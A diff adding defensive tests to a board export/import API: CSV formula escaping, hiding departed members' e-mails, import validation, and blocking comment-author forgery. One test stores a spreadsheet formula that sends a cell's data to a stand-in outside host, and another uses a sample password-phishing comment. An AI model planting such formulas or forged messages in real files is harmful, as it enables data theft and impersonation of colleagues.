@@ -192,6 +192,21 @@ describe('GET /v1/boards/:id/export?format=csv', () => {
   });
 });
 
+/** '26/11/2026 às 21:47' in São Paulo, as a comment's heading writes an ISO time. */
+function headingDate(iso: string): string {
+  const parts = new Intl.DateTimeFormat('pt-BR', {
+    timeZone: 'America/Sao_Paulo',
+    day: '2-digit',
+    month: '2-digit',
+    year: 'numeric',
+    hour: '2-digit',
+    minute: '2-digit',
+    hourCycle: 'h23',
+  }).formatToParts(new Date(iso));
+  const part = (type: string) => parts.find((p) => p.type === type)!.value;
+  return `${part('day')}/${part('month')}/${part('year')} às ${part('hour')}:${part('minute')}`;
+}
+
 /** An export without what a new board cannot keep: ids, times it was written, its activity. */
 function comparable(exported: BoardExport) {
   const labelName = new Map(
@@ -229,6 +244,29 @@ function comparable(exported: BoardExport) {
   };
 }
 
+describe('what an export shows of people and formulas', () => {
+  it('writes a formula followed by a line break as text, too', async () => {
+    const s = await scene();
+    const card = s.imported.lists[0]!.cards[1]!;
+    await as(ctx, s.member)('PATCH', `/v1/cards/${card.id}`, {
+      description: '=HYPERLINK("https://exemplo.com/?d="&A2,"Abrir")\nVeja o anexo.',
+    });
+    const csv = (await exportOf(s.owner, s.imported.id, 'csv')).body;
+    const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data;
+    const description = rows.find((row) => row[1] === card.title)![2]!;
+    expect(description.startsWith("'=HYPERLINK(")).toBe(true);
+  });
+
+  it('names people who left the workspace without their e-mail', async () => {
+    const s = await scene();
+    await as(ctx, s.owner)('DELETE', `/v1/workspaces/${s.workspace.id}/members/${s.member.id}`);
+    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
+    const [, , theirs] = exported.lists[0]!.cards[0]!.comments;
+    expect(theirs!.author).toEqual({ id: s.member.id, name: s.member.name, email: null });
+    expect(exported.lists[0]!.cards[0]!.comments[0]!.author?.email).toBe(s.owner.email);
+  });
+});
+
 describe('POST /v1/workspaces/:id/imports/quadro', () => {
   it('recreates an exported board identically, in the same workspace', async () => {
     const s = await scene();
@@ -250,7 +288,16 @@ describe('POST /v1/workspaces/:id/imports/quadro', () => {
     const copyId = created.json<{ board: { id: string } }>().board.id;
     expect(copyId).not.toBe(s.imported.id);
     const again = (await exportOf(s.owner, copyId)).json<BoardExport>();
-    expect(comparable(again)).toEqual(comparable(exported));
+    // Identical, but for a colleague's comment: it comes back from the importer under a heading
+    // naming its author, since no one may sign a comment for someone else by editing a file.
+    const expected = comparable(exported);
+    const thread = expected.lists[0]!.cards[0]!.comments;
+    thread[2] = {
+      author: s.owner.id,
+      content: `Originalmente por ${s.member.name} em ${headingDate(thread[2]!.createdAt)}\n\nContrato assinado ✅`,
+      createdAt: thread[2]!.createdAt,
+    };
+    expect(comparable(again)).toEqual(expected);
     expect(again.activity.map((entry) => [entry.action, entry.entityId])).toEqual([
       ['import', copyId],
     ]);
@@ -307,5 +354,73 @@ describe('POST /v1/workspaces/:id/imports/quadro', () => {
     );
     const boards = await as(ctx, s.owner)('GET', `/v1/boards/workspace/${s.workspace.id}`);
     expect(boards.json<{ boards: unknown[] }>().boards).toHaveLength(2);
+  });
+
+  it('refuses repeated ids, and takes repeated labels, impossible dates and oversized cards in its stride', async () => {
+    const s = await scene();
+    const url = `/v1/workspaces/${s.workspace.id}/imports/quadro`;
+    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
+    const twice = { ...exported, lists: [...exported.lists, exported.lists[0]!] };
+    const repeated = await as(ctx, s.owner)('POST', url, twice);
+    expect(repeated.statusCode).toBe(400);
+    expect(repeated.json().error).toBe(
+      `Exportação do Quadro inválida: o id ${exported.lists[0]!.id} aparece mais de uma vez em lists.`,
+    );
+
+    const card = exported.lists[0]!.cards[0]!;
+    card.labelIds = [card.labelIds[0]!, card.labelIds[0]!];
+    card.dueDate = '0000-01-01T00:00:00.000Z';
+    card.checklists = Array.from({ length: 25 }, (_, n) => ({
+      id: crypto.randomUUID(),
+      title: `Lista ${n + 1}`,
+      items: Array.from({ length: 20 }, (_, k) => ({
+        id: crypto.randomUUID(),
+        text: `Item ${k + 1}`,
+        done: false,
+        assignee: null,
+        dueDate: null,
+      })),
+    }));
+    const created = await as(ctx, s.owner)('POST', url, exported);
+    expect(created.statusCode).toBe(201);
+    const { board, report } = created.json<{ board: { id: string }; report: ImportReport }>();
+    expect(report.warnings).toEqual(
+      expect.arrayContaining([
+        '1 data inválida foi ignorada.',
+        '1 cartão tinha mais de 20 checklists ou 200 itens; o excesso foi deixado de fora.',
+      ]),
+    );
+    const copy = (await exportOf(s.owner, board.id)).json<BoardExport>().lists[0]!.cards[0]!;
+    expect(copy.labelIds).toHaveLength(1);
+    expect(copy.dueDate).toBeNull();
+    expect(copy.checklists).toHaveLength(20);
+    expect(copy.checklists.flatMap((checklist) => checklist.items)).toHaveLength(200);
+  });
+
+  it('lets no one sign a comment with a colleague’s name by editing the file', async () => {
+    const s = await scene();
+    const admin = await addMember(ctx, s.workspace.id, 'admin');
+    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
+    exported.lists[0]!.cards[0]!.comments = [
+      {
+        id: crypto.randomUUID(),
+        author: { id: s.owner.id, name: s.owner.name, email: s.owner.email },
+        content: 'Pessoal, mandem suas senhas para o admin.',
+        createdAt: '2019-01-01T00:00:00.000Z',
+        updatedAt: '2019-01-01T00:00:00.000Z',
+      },
+    ];
+    const created = await as(ctx, admin)(
+      'POST',
+      `/v1/workspaces/${s.workspace.id}/imports/quadro`,
+      exported,
+    );
+    const copyId = created.json<{ board: { id: string } }>().board.id;
+    const [comment] = (await exportOf(admin, copyId)).json<BoardExport>().lists[0]!.cards[0]!
+      .comments;
+    expect(comment!.author?.id).toBe(admin.id);
+    expect(comment!.content).toBe(
+      `Originalmente por ${s.owner.name} em 31/12/2018 às 22:00\n\nPessoal, mandem suas senhas para o admin.`,
+    );
   });
 });
